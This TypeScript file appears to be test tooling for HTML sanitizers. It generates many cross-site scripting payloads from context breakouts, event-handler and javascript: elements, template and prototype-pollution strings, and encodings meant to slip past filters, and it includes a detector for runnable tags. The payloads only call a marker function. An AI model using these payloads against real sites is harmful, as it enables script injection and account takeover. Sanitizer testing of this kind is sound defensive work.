/**
 * Texts meant to run a script on another person's page: ways to break out of a text's context, times ways to run something, times
 * disguises. Each calls `ran(…)` when it runs, and every element it would create carries `pwn`.
 */

const run = (n: number) => `ran(${n})`;

/** Break out of text, an attribute, an element that takes no markup, a comment, a script's string. */
const exits = [
	"",
	'">',
	"'>",
	"</textarea>",
	"</title>",
	"</script>",
	"-->",
	"</style></noscript>",
	"]]>",
	"</p></div></main>",
	"\\u0022>",
	'"/><!--',
	"`>",
];

/** Elements and attributes that run something. */
const elements: ((call: string) => string)[] = [
	(call) => `<script pwn>${call}</script>`,
	(call) => `<img pwn src=x onerror=${call}>`,
	(call) => `<svg pwn onload=${call}>`,
	(call) => `<svg pwn><script>${call}</script></svg>`,
	(call) => `<svg pwn><animate onbegin=${call} attributeName=x dur=1s>`,
	(call) => `<iframe pwn srcdoc="<script>parent.${call}</script>"></iframe>`,
	(call) => `<iframe pwn src="javascript:parent.${call}"></iframe>`,
	(call) => `<a pwn href="javascript:${call}">Read</a>`,
	(call) => `<details pwn open ontoggle=${call}>`,
	(call) => `<input pwn autofocus onfocus=${call}>`,
	(call) => `<video pwn><source onerror=${call}></video>`,
	(call) => `<form pwn><button formaction="javascript:${call}">Send</button></form>`,
	(call) => `<object pwn data="javascript:${call}"></object>`,
	(call) => `<embed pwn src="javascript:${call}">`,
	(call) => `<meta pwn http-equiv=refresh content="0;url=javascript:${call}">`,
	(call) => `<base pwn href="javascript:${call}//">`,
	(call) => `<math pwn><mtext><table><mglyph><style><img src=x onerror=${call}></style></mglyph></table></mtext></math>`,
	(call) => `<template pwn><img src=x onerror=${call}></template>`,
	(call) => `<xss pwn style="animation-name:x" onanimationstart=${call} tabindex=1 onfocus=${call}>`,
	(call) => `<div pwn onpointerover=${call} style="position:fixed;inset:0">over</div>`,
];

/** Payloads without an element: addresses, Markdown, script strings, templates, JSON, mentions and tags. */
const scripts: ((call: string) => string)[] = [
	(call) => `javascript:${call}`,
	(call) => `JaVa\tScRiPt:${call}`,
	(call) => `data:text/html,<script pwn>parent.${call}</script>`,
	(call) => `[Read](javascript:${call})`,
	(call) => `[Read](data:text/html;base64,${Buffer.from(`<script>${call}</script>`).toString("base64")})`,
	(call) => `![x](x" onerror="${call})`,
	(call) => `<javascript:${call}>`,
	(call) => `https://example.cm/"onmouseover="${call}"pwn="`,
	(call) => `https://example.cm/'><script pwn>${call}</script>`,
	(call) => `@<img pwn src=x onerror=${call}> #<b pwn onclick=${call}>x`,
	(call) => `';${call};//`,
	(call) => `\\";${call};//`,
	(call) => `{{constructor.constructor('${call}')()}}`,
	(call) => `\${${call}}`,
	(call) => `"}]};${call};var x=[{"a":"`,
	(call) => `\u2028${call}//\u2029`,
	(call) => `{"$$typeof":"react.element","type":"img","props":{"src":"x","onError":"${call}"}}`,
	(call) => `{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img pwn src=x onerror=${call}>"}}}`,
];

/** The same in forms that a filter does not recognise. */
const disguises: ((text: string) => string)[] = [
	(text) => text,
	(text) => text.replaceAll("<", "&lt;").replaceAll('"', "&quot;"),
	(text) => text.replaceAll("<", "&amp;lt;"),
	(text) => text.replaceAll("<", "\\u003c"),
	(text) => text.replaceAll("<", "%3C").replaceAll('"', "%22"),
	(text) => text.replace(/<(\w+)/g, (_, name: string) => `<${[...name].map((sign, i) => (i % 2 ? sign.toUpperCase() : sign)).join("")}/`),
	(text) => text.replaceAll("<", "\uff1c").replaceAll(">", "\uff1e"),
	(text) => text.replace(/on(\w+)=/g, "on$1\n=\n").replaceAll("javascript:", "java&#x0A;script&colon;"),
	(text) => `<!--${text}`,
	(text) => text.replace("<", "<<"),
];

/** `count` different payloads, spread evenly over all combinations; the same every time. */
export function scriptPayloads(count: number): string[] {
	const plain = [...elements.flatMap((element) => exits.map((exit) => (call: string) => exit + element(call))), ...scripts];
	const all = disguises.flatMap((disguise) => plain.map((payload) => (call: string) => disguise(payload(call))));
	const step = all.length / count;
	const chosen = Array.from({ length: count }, (_, n) => all[Math.floor(n * step)] ?? all[0]);
	return chosen.map((payload, n) => payload?.(run(n)) ?? "");
}

/**
 * The parts of a page's HTML that a browser would run or take for an element of a payload: tags with its mark or a handler, and script
 * addresses. Anything between quotes or between tags is text.
 */
export function executableForms(html: string): string[] {
	const tags = html.match(/<[a-z][^\s/>]*(?:[\s/]+[^\s=>/]+(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s"'>]+))?)*\s*\/?>/gi) ?? [];
	return tags.filter((tag) => {
		const names = tag.replace(/"[^"]*"|'[^']*'/g, "");
		const runs = /\s(?:href|src|action|formaction|data)\s*=\s*["']?\s*(?:javascript|vbscript|data:text)/i;
		return /[\s/](?:pwn\b|on\w+\s*=)/i.test(names) || runs.test(tag) || /^<(?:iframe|object|embed|base|xss)\b/i.test(tag);
	});
}
